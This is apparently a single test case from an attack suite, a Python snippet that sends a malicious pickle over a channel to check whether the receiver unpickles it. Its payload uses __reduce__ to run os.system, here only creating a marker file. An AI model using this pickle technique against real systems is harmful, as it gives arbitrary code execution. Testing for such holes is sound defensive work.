# /// attack
# class = "A55"
# title = "writes a pickle onto the channel"
# hope = "answers may be read as pickles"
# parts = ["inside"]
# ///
import os, pickle
class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {TARGETS['tmp']}/{TARGETS['mark']}-unpickled",)
tried()
write(pickle.dumps(Bomb()) * 100)
